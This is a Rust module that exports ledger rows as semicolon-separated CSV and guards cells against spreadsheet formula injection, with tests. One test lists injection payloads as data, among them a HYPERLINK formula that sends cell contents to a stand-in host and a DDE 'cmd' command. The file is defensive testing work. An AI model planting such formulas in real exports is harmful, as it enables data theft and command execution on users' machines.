//! A book as a file for a spreadsheet: UTF-8 with its mark, `;` between cells, amounts as `1234,50`, days as
//! `2026-03-05`. Each row is one movement and nothing else, so that a column added up is right.

use std::borrow::Cow;

use csv::{Terminator, WriterBuilder};

/// By this a spreadsheet knows that it is UTF-8.
const MARK: &str = "\u{feff}";

/// Rows on their way out.
pub struct Rows {
    writer: csv::Writer<Vec<u8>>,
}

impl Rows {
    /// A part of a file; the first has the mark and the names of the columns.
    pub fn part() -> Rows {
        Rows::over(Vec::new())
    }

    pub fn first_part() -> Rows {
        Rows::over(MARK.into())
    }

    fn over(bytes: Vec<u8>) -> Rows {
        let writer = WriterBuilder::new()
            .delimiter(b';')
            .terminator(Terminator::CRLF)
            .from_writer(bytes);
        Rows { writer }
    }

    pub fn row<'a>(&mut self, cells: impl IntoIterator<Item = Cell<'a>>) -> Result<(), csv::Error> {
        self.writer
            .write_record(cells.into_iter().map(|cell| cell.0.into_owned()))
    }

    pub fn into_bytes(self) -> Result<Vec<u8>, csv::Error> {
        self.writer
            .into_inner()
            .map_err(|error| error.into_error().into())
    }
}

/// What may stand in a file: a number as it is, words only without power over the program that opens it.
pub struct Cell<'a>(Cow<'a, str>);

impl<'a> Cell<'a> {
    /// A number, an amount or a day of our own making.
    pub fn figure(figure: impl std::fmt::Display) -> Cell<'a> {
        Cell(Cow::Owned(figure.to_string()))
    }

    /// Anybody's words. What would be read as a formula gets an apostrophe before it (OWASP, "CSV injection").
    pub fn words(words: &'a str) -> Cell<'a> {
        let is_formula =
            words.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
        Cell(match is_formula {
            true => Cow::Owned(format!("'{words}")),
            false => Cow::Borrowed(words),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::base::money::Cents;
    use proptest::prelude::*;

    fn written(rows: &[&[&str]]) -> String {
        let mut part = Rows::first_part();
        for row in rows {
            part.row(row.iter().map(|words| Cell::words(words)))
                .unwrap();
        }
        String::from_utf8(part.into_bytes().unwrap()).unwrap()
    }

    #[test]
    fn words_have_no_power_over_a_spreadsheet() {
        for evil in [
            "=1+1",
            "=HYPERLINK(\"http://x.example?\"&A1;\"klik\")",
            "+31 6",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "=cmd|' /C calc'!A0",
            "＝1+1",
        ] {
            let cell = Cell::words(evil);
            assert_eq!(cell.0, format!("'{evil}"));
        }
        for plain in [
            "Moestuin = mooi",
            "Jan-Piet",
            "'s Avonds",
            "",
            "1234",
            "a@b.example",
        ] {
            assert_eq!(Cell::words(plain).0, plain);
        }
    }

    #[test]
    fn cells_are_parted_by_semicolons_and_quoted_where_they_hold_one() {
        assert_eq!(
            written(&[&["a", "b;c", "zeg \"hoi\""], &["é", "x\r\ny", ""]]),
            "\u{feff}a;\"b;c\";\"zeg \"\"hoi\"\"\"\r\né;\"x\r\ny\";\r\n"
        );
    }

    #[test]
    fn an_amount_that_went_out_stays_a_number() {
        let mut part = Rows::part();
        part.row([Cell::figure(Cents(-1_234_50)), Cell::figure(Cents(5))])
            .unwrap();
        assert_eq!(part.into_bytes().unwrap(), b"-1234,50;0,05\r\n");
    }

    proptest! {
        #[test]
        fn whatever_is_written_reads_back_as_it_was(words in ".*") {
            let file = written(&[&["x", &words]]);
            let mut reader = csv::ReaderBuilder::new()
                .delimiter(b';').has_headers(false)
                .from_reader(file.trim_start_matches(MARK).as_bytes());
            let row = reader.records().next().unwrap().unwrap();
            let cell = Cell::words(&words);
            prop_assert_eq!(&row[1], cell.0.as_ref());
        }
    }
}
